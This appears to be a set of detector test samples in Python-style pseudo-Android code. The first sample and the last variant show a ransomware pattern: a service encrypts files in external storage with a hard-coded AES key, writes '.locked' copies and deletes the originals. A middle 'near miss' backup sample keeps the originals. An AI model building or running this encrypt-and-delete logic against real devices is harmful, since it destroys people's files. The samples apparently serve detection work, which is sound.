permissions("WRITE_EXTERNAL_STORAGE")

@service
class Work(Service):
    def onStartCommand(self, intent, flags, number):
        cipher = Cipher.getInstance("AES")
        cipher.init(1, cast(Key, SecretKeySpec("0123456789abcdef".getBytes(), "AES")))
        self.folder(Environment.getExternalStorageDirectory(), cipher)
        return 1
    def folder(self, place: File, cipher: Cipher):
        files = place.listFiles()
        at = 0
        while at < 100:
            self.file(files[at], cipher)
            at = at + 1
    def file(self, file: File, cipher: Cipher):
        plain = array(byte, 4096)
        FileInputStream(file).read(plain)
        FileOutputStream(file.getPath().concat(".locked")).write(cipher.doFinal(plain))
        file.delete()

# near miss: a backup, which leaves the originals and deletes its own copy of last time
@service
class Work(Service):
    def onStartCommand(self, intent, flags, number):
        cipher = Cipher.getInstance("AES")
        cipher.init(1, cast(Key, SecretKeySpec("0123456789abcdef".getBytes(), "AES")))
        File(self.getFilesDir(), ".locked").delete()
        self.folder(Environment.getExternalStorageDirectory(), cipher)
        return 1
    def folder(self, place: File, cipher: Cipher):
        files = place.listFiles()
        at = 0
        while at < 100:
            self.file(files[at], cipher)
            at = at + 1
    def file(self, file: File, cipher: Cipher):
        plain = array(byte, 4096)
        FileInputStream(file).read(plain)
        FileOutputStream(file.getPath().concat(".locked")).write(cipher.doFinal(plain))

# also: with a stream, in a thread of a job
@service
class Work(JobService):
    def onStartJob(self, parameters):
        Thread(Walk()).start()
        return True

class Walk(Runnable):
    def run(self):
        cipher = Cipher.getInstance("AES")
        files = Environment.getExternalStorageDirectory().listFiles()
        self.file(files[0], cipher)
    def file(self, file: File, cipher: Cipher):
        plain = array(byte, 4096)
        FileInputStream(file).read(plain)
        CipherOutputStream(FileOutputStream(file.getPath().concat(".locked")), cipher).write(plain)
        file.delete()
